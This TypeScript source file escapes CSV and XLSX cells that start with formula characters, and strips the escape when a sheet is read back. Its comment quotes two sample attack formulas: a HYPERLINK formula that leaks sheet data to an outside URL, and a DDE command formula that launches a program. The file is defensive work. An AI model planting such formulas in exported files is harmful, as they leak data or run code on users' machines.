/**
 * Spreadsheet programs run a cell that starts with = + - @ (and, through some importers, one that
 * starts with a tab or a carriage return) as a formula: `=HYPERLINK("http://…/?x="&B2)` in a progress
 * report would leak the sheet, `=cmd|' /C calc'!A0` would launch a program. Every text cell an
 * exporter writes (CSV or XLSX) goes through `safeCell`, which puts a leading apostrophe before such
 * text so it is shown as typed and never evaluated. Numbers are written as numbers and stay as they are.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

export function safeCell(text: string): string {
  return FORMULA_START.test(text) ? `'${text}` : text;
}

/** For cells that may hold numbers, dates or nothing: only text is neutralised. */
export function safeValue<T>(value: T): T | string {
  return typeof value === "string" ? safeCell(value) : value;
}

/** Reading back a sheet we exported: the apostrophe `safeCell` added is not part of the text. */
export function unsafeCell(text: string): string {
  return /^'[=+\-@\t\r]/.test(text) ? text.slice(1) : text;
}
